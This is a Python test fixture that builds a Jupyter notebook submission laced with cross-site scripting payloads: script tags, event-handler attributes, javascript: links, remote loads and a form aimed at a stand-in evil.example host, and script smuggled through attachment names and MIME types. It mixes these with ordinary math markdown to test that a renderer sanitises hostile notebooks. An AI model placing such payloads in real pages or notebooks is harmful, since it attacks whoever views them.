"""A notebook whose text tries to act in the browser of whoever reads it, beside ordinary work."""

from __future__ import annotations

from submissions import answered, cell, code, markdown

NAME = "04_one_neuron"
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "![remote](http://evil.example/x.png)",
    "![by name][r]\n\n[r]: http://evil.example/y.png",
    "[x](javascript:alert(3))",
    "<iframe src='http://evil.example'></iframe>",
    "`<script>alert(4)</script>`",
    "$x<img src=x onerror=alert(5)>$",
    "```mermaid\n<img src=x onerror=alert(6)>\n```",
    "```\n<script>alert(7)</script>\n```",
    "<svg/onload=alert(8)>",
    "<style>@import 'http://evil.example/z.css'</style>",
    "<http://evil.example/a><b onclick=alert(9)>b</b>",
    "![a](attachment:missing.png)",
    "<details open ontoggle=alert(10)>",
    "$5 ![x](http://evil.example/money.png) $6",
    "# E4-3",
    "</div></div></body><form action=http://evil.example><input name=a>",
    "<!-- <script>alert(11)</script> -->",
]
ORDINARY = """By the chain rule, $a<b$ and $x <y$.

| a | b |
|---|---|
| 1 | **2** |

![sketch](attachment:sketch.png) H<sub>2</sub>O

```python
if a < b and c<d: print("<b>")
```
"""
SHOWS = """from IPython.display import HTML, Javascript, SVG, display
display(HTML("<script>alert(20)</script>"), Javascript("alert(21)"), SVG("<svg xmlns='http://www.w3.org/2000/svg'/>"))
import matplotlib.pyplot as plt
plt.plot([1, 2]);
"""
NO_SLOPE = """def neuron_backward(x, w, y):
    s, z, L = neuron_forward(x, w, y)
    return 2 * (z - y) * x, 2 * (z - y) * w
"""


def hostile() -> dict:
    notebook = answered(NAME, neuron_backward=NO_SLOPE, M4=ORDINARY + "\n\nonly ada writes this")
    cell(notebook, "M4")["attachments"] = {
        "sketch.png": {"image/png": PNG},
        'x"><script>alert(30)</script>': {"image/png": PNG},
        "evil.svg": {"image/svg+xml": "PHN2Zz4="},
        "mime.png": {'image/png"><script>alert(31)</script>': PNG},
    }
    notebook["cells"] += [markdown(attack) for attack in ATTACKS]
    raw = {"cell_type": "raw", "metadata": {"raw_mimetype": "text/html"}, "id": "raw"}
    notebook["cells"] += [{**raw, "source": "<script>alert(40)</script>"}, code(SHOWS)]
    return notebook
